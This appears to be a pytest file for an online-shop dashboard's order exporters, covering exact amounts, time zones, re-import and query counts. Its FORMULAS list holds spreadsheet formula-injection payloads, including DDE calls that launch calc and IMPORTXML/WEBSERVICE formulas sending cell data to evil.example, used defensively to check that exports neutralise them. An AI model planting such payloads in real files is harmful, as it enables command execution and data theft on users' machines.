"""Exported orders: amounts to the last digit, formulas as text, and a table that comes in again as the same orders."""

import csv
import io
from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

from dashboard.database import writing
from dashboard.exporters import orders_csv, orders_xlsx
from dashboard.extensions import db
from dashboard.models import Order, OrderLine, Store, order_export
from dashboard.models.order_export import of_codes, taken
from tests import world
from tests.exporters.books import acting, cell_texts, sheets
from tests.importing import bring_in
from tests.pages.crowd import LONG_AGO, add_order
from tests.pages.queries import queries

CALC = "cmd|' /C calc'!A0"
FORMULAS = (
    "=1+1", '=HYPERLINK("http://evil.example","x")', f"={CALC}", "+1+1", "-1+1", f"-2+3+{CALC}", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")', '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://evil.example")', "{=1+1}", '="a"&"b"', "=A1", f"+{CALC}", "=1+1;=2+2", "==1", "=-1", "@=1",
    "http://evil.example", "mailto:x@evil.example", "1e5", "0012", "TRUE",
)  # fmt: skip
EVERY = tuple(story.code for story in world.STORIES)


def book(tmp_path, *codes):
    """The workbook of these orders."""
    out = io.BytesIO()
    orders_xlsx.write(out, taken(db.session(), of_codes(codes)), tmp_path, "Europe/Berlin")
    return out.getvalue()


def table(*codes):
    """The table of these orders."""
    return b"".join(orders_csv.pieces(taken(db.session(), of_codes(codes)), "Europe/Berlin"))


@pytest.mark.feature("D6")
def test_a_workbook_holds_what_the_orders_are(app, tmp_path):
    with app.app_context():
        file = sheets(book(tmp_path, *EVERY))
        orders = {order.code: order for order in db.session.scalars(select(Order))}
    assert [row["Order number"] for row in file["Orders"]] == sorted(EVERY, key=lambda code: orders[code].placed_at)[
        ::-1
    ]
    for row in file["Orders"]:
        order = orders[row["Order number"]]
        amounts = {"Total": order.total, "Amount paid": order.paid, "Refunded": order.refunded, "Tax": order.tax}
        assert {head: row[head] for head in amounts} == {head: minor / 100 for head, minor in amounts.items()}
        assert (row["Payment status"], row["State"]) == (order.payment_status.label, order.state.label)
        assert row["Customer name"] == order.customer_name
    paid = next(row for row in file["Orders"] if row["Order number"] == world.PAID)
    assert (paid["Account"], paid["Ship to city"], paid["Discount code"]) == (world.CHLOE, "Hamburg", "WELCOME5")
    lines = [row for row in file["Lines"] if row["Order number"] == world.PAID]
    assert [(row["SKU"], row["Quantity"], row["Unit price"]) for row in lines] == [
        (world.MUG, 2, 9.5), (world.CANDLE, 1, 14), (world.TOWEL, 1, 8),
    ]  # fmt: skip
    sent = {row["SKU"]: row["Shipping status"] for row in file["Lines"] if row["Order number"] == world.TWO_BOXES}
    assert set(sent.values()) == {"Shipped"}


def test_dates_are_in_the_shops_zone(app, tmp_path):
    with app.app_context():
        placed = world.order(world.PAID).placed_at
        [row] = sheets(book(tmp_path, world.PAID))["Orders"]
    there = placed.astimezone(ZoneInfo("Europe/Berlin")).replace(tzinfo=None)
    assert abs(row["Date"] - there) < timedelta(seconds=1)


@pytest.mark.parametrize(
    ("currency", "minor", "written"),
    [("EUR", 123_456_789_012_34, "123456789012.34"), ("JPY", 4800, "4800"), ("KWD", 1, "0.001"), ("EUR", 10, "0.10")],
)
def test_amounts_are_exact(app, tmp_path, currency, minor, written):
    with app.app_context():
        with writing() as session:
            add_order(session, "OD-70", LONG_AGO, "MUG", currency=currency, total=minor)
        file = book(tmp_path, "OD-70")
        assert written in [text for _, text in cell_texts(file, "sheet1")]
        assert f",{written}," in table("OD-70").decode()


def test_what_begins_like_a_formula_is_text(app, tmp_path):
    with app.app_context():
        with writing() as session:
            order = add_order(session, "OD-70", LONG_AGO, "MUG", customer_name=FORMULAS[0])
            order.shipping_method, order.discount_code = FORMULAS[1], FORMULAS[2]
            order.shipping_address = {"name": FORMULAS[3], "street1": FORMULAS[4]}
            for at, text in enumerate(FORMULAS):
                session.add(
                    OrderLine(
                        order_id=order.id,
                        position=50 + at,
                        name=text,
                        sku=text[:120],
                        variant=text,
                        quantity=1,
                        original_quantity=1,
                        unit_price=1,
                        original_unit_price=1,
                        total=100,
                    )
                )
        file, text = book(tmp_path, "OD-70"), table("OD-70").decode("utf-8-sig")
    assert acting(file) == []
    found = sheets(file)
    items = [row["Item"] for row in found["Lines"] if row["Item"] != "MUG"]
    assert [item.strip() for item in items if isinstance(item, str)][-len(FORMULAS) :] == [
        one.strip() for one in FORMULAS
    ]
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in "=+-@\t\r" and cell]
    assert dangerous == []


@pytest.mark.feature("D6")
def test_the_table_comes_in_again_as_the_same_orders(app, kind, tmp_path):
    """Into the same desk they are known by their numbers, so the source's prefix makes others of them."""
    path = tmp_path / "orders.csv"
    with app.app_context():
        with writing() as session:
            session.get(Store, 1).name = "x"
            odd = world.order(world.UNPAID)
            odd.customer_name, odd.customer_phone = "=1+1", "+49 151 2345 6789"
        path.write_bytes(table(*EVERY))
        came = bring_in(path, "table", prefix="AGAIN-")
        assert came.outcomes == {"made": len(EVERY)}, came.told
        for code in EVERY:
            before, after = world.order(code), world.order(f"AGAIN-{code}")
            assert said(after) == said(before), code
        assert bring_in(path, "table", prefix="AGAIN-").outcomes == {"unchanged": len(EVERY)}


def said(order):
    """What an order is, beside what is of this desk alone: who owns it, its route, its parcels and its log."""
    return {
        "placed": order.placed_at.replace(microsecond=0),
        "who": (order.customer_name, order.customer_email, order.customer_phone),
        "addresses": (order.shipping_address, order.billing_address),
        "money": (order.currency, order.discount, order.shipping, order.total, order.paid, order.refunded),
        "words": (order.discount_code, order.shipping_method, order.payment_status.value),
        "lines": [(line.sku, line.name, line.variant, line.quantity, line.unit_price, line.discount, line.total)
                  for line in order.lines if line.quantity],
        "tags": [tag.tag for tag in order.tags],
    }  # fmt: skip


def test_it_takes_three_reads_for_some_hundred_orders_and_flat_memory(app, tmp_path, monkeypatch):
    monkeypatch.setattr(order_export, "CHUNK", 20)
    codes = [f"OD-{number}" for number in range(1_000, 1_100)]
    with app.app_context():
        with writing() as session:
            for at, code in enumerate(codes):
                add_order(session, code, LONG_AGO + timedelta(minutes=at // 3), "MUG")
        with queries(app) as sent:
            found = [one.order.code for one in taken(db.session(), of_codes(codes))]
    assert sorted(found) == sorted(codes)
    assert len(sent) == 3 * 5 + 1
